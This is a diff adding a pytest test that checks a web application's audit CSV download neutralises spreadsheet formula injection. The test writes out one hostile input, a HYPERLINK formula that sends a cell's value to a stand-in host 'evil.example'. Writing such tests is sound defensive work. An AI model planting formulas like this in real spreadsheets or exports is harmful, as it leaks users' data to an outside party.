@@ -380,3 +380,25 @@ def test_queue_health_and_metrics_show_only_the_callers_tenants(live: Live, acme
         assert acme_run not in inbox.text and "acme" not in inbox.text.replace("acme@", "")
         runs = c.get("/runs")
         assert acme_run not in runs.text
+
+
+def test_the_audit_csv_download_carries_no_spreadsheet_formula(live: Live) -> None:
+    """GET /runs/{id}/audit.csv goes through the one CSV writer (warden.investigate.spreadsheet):
+    a formula pasted into a comment stays inside the payload's JSON, and no cell starts with a
+    formula trigger."""
+    import csv
+    import io
+    import json
+
+    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'
+    run_id = live.waiting_run("acme")
+    with signed_in(live, "dora@acme") as (c, csrf):
+        posted = c.post(f"/runs/{run_id}/comments", data={"csrf_token": csrf, "text": formula})
+        assert posted.status_code == 303
+        download = c.get(f"/runs/{run_id}/audit.csv")
+    assert download.status_code == 200 and download.headers["content-type"].startswith("text/csv")
+    rows = list(csv.DictReader(io.StringIO(download.text)))
+    [comment] = [json.loads(r["payload"]) for r in rows if r["event"] == "comment_added"]
+    assert comment["text"] == formula
+    cells = [c for r in rows for c in r.values()]
+    assert [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
